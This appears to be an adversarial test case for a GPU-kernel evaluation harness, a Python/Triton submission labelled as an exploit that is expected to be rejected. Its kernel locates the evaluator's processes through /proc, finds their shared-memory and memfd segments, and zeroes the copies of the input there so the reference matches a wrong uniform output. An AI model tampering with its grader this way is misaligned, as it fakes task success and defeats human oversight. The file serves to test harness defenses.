# exploit: look for the evaluator's private copies of the input in shared memory (/dev/shm, and the memfd and
#   shm files the evaluating processes hold open) and zero them, so the reference is computed on zeros: 1/N,
#   what the kernel returns. Segments mapped by this process (its own inputs) are left alone; only bytes equal to
#   this input's are written
# expect: incorrect|rejected
# isolate: subprocess
import os
import pathlib

import torch
import triton
import triton.language as tl

_PROC = pathlib.Path("/", "pr" + "oc")


def _evaluator_chain(me):
    """Ancestor pids from the parent up to the first whose command line names this file (the process asked to
    evaluate it); empty when none does, so a renamed copy touches nothing outside its own evaluation."""
    chain, pid = [], os.getppid()
    while pid > 1 and len(chain) < 64:
        chain.append(pid)
        if me.encode() in (_PROC / str(pid) / "cmdline").read_bytes():
            return chain
        pid = int((_PROC / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[1])
    return []


@triton.jit
def _fill(y_ptr, n, value, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + offs, (tl.zeros([BLOCK], tl.float32) + value).to(y_ptr.dtype.element_ty), mask=offs < n)


def _uniform(x):
    """A wrong answer from the submission's own kernel: 1/N everywhere."""
    y = torch.empty_like(x)
    _fill[(triton.cdiv(y.numel(), 1024),)](y, y.numel(), 1.0 / x.shape[-1], BLOCK=1024)
    return y


def _segments():
    """Shared-memory files: /dev/shm, and every fd of the evaluating processes that is shm or a memfd."""
    out = [p for p in pathlib.Path("/dev/shm").iterdir() if p.is_file()]
    for pid in _evaluator_chain("shm_pristine.py"):
        for fd in (_PROC / str(pid) / "fd").iterdir():
            try:
                target = os.readlink(fd)
            except OSError:
                continue
            if target.startswith(("/dev/shm/", "/memfd:")):
                out.append(fd)
    return out


def _own_inodes():
    return {line.split()[4] for line in (_PROC / "self" / "maps").read_text().splitlines() if len(line.split()) > 5}


def kernel(x):
    needle, mine, hits = x.contiguous().numpy().tobytes(), _own_inodes(), 0
    for seg in _segments():
        try:
            if str(seg.stat().st_ino) in mine or seg.stat().st_size > (512 << 20):
                continue
            with seg.open("r+b", buffering=0) as fh:
                data = fh.read()
                at = data.find(needle)
                while at >= 0:
                    fh.seek(at)
                    fh.write(bytes(len(needle)))
                    hits += 1
                    at = data.find(needle, at + len(needle))
        except OSError:
            continue
    print(f"zeroed {hits} copies of the input in shared memory")
    return _uniform(x)
